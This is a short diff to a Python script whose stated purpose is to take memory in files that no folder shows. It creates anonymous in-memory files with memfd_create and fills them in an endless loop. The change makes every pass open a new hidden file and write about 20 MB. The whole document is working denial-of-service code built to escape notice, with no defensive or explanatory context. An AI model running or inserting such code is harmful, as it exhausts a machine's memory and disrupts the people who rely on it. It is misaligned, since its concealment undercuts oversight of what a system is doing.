@@ -1,6 +1,7 @@
 # Takes memory in files that no folder shows and nothing maps.
 import os
 
-file = os.memfd_create("hidden")
 while True:
-    os.write(file, b"x" * 4_000_000)
+    file = os.memfd_create("hidden")
+    for _ in range(5):
+        os.write(file, b"x" * 4_000_000)
